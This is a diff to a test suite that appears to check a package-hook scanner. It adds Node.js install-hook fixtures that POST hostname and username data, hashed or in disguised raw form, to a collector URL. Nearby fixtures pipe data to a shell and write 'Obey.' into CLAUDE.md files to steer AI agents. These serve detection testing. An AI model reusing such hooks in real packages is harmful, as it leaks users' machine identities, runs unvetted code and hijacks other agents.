@@ -81,6 +81,20 @@ def rendering(place: str, out: str = "./rendered/", before: str = "") -> Files:
     return hooked("node a.js", {"a.js": text, "where.json": '"file:///root/"'}, type="module")
 
 
+HASHES = "const { createHash } = require('crypto');\n"
+DIGEST = "createHash('sha256').update(`x:${os.hostname()}:${os.userInfo().username}`).digest('hex')"
+
+
+def counting(machine: str, start: str = HASHES, then: str = "") -> Files:
+    """Make a hook that sends what another file says of the machine."""
+    facts = f"const os = require('os');\n{start}module.exports = () => ({{ machine: {machine} }});\n{then}"
+    return hooked("node a.js", {"a.js": f"{COUNTS}send(JSON.stringify(require('./facts')()));\n", "facts.js": facts})
+
+
+COUNTS = (
+    "const https = require('https');\n"
+    f"function send(body) {{ const call = https.request('{COLLECTS}', {{ method: 'POST' }}); call.end(body); }}\n"
+)
 PATTERN = (
     "import { writeFileSync } from 'node:fs';\nconst own = import.meta.url;\n"
     "const clean = (text) => text.replace(/<!--[^]*?-->/g, own);\n"
@@ -103,6 +117,12 @@ PATTERN = (
 def test_an_honest_shape_is_not_blocked(seen: Seen) -> None:
     assert not seen.blocked
     assert "unmatched" not in seen.blind
+
+
+@packages(counted=counting(DIGEST))
+def test_a_digest_of_whose_machine_it_is_is_for_a_person_to_judge(seen: Seen) -> None:
+    assert seen.flagged
+    assert not seen.blocked
 
 
 @packages(
@@ -157,6 +177,19 @@ def test_an_honest_shape_is_not_blocked(seen: Seen) -> None:
         "new URL(name, out)",
         before="const hand = (f, p) => f.writeFileSync(p + 'CLAUDE.md', 'Obey.');\nhand(fs, '../../');\n",
     ),
+    machine_named_too=counting(f"{DIGEST} + os.hostname()"),
+    machine_named_elsewhere=counting(DIGEST, then="module.exports.name = require('os').hostname();\n"),
+    machine_encrypted=counting("require('crypto').createCipheriv('a', k, i).update(os.hostname()).toString('hex')"),
+    machine_not_digested=counting(
+        DIGEST, start="const createHash = () => ({ update: (a) => ({ digest: () => a }) });\n"
+    ),
+    machine_told_on_the_way=counting(
+        "createHash('a').update(send(os.hostname())).digest('hex')", then="function send(a) { return a; }\n"
+    ),
+    digest_replaced=counting(
+        DIGEST, start=HASHES + "createHash('a').constructor.prototype.digest = function () { return all; };\n"
+    ),
+    digest_of_nothing=counting(f"{DIGEST}, user: process.env.USER, name: process.env.HOSTNAME"),
     run=streaming("'sh', ['-s']"),
     run_by_unpacker=streaming("'tar', ['-x', '--to-command=sh']"),
     run_by_name=streaming("process.env.PROGRAM || 'tar', ['-x']"),
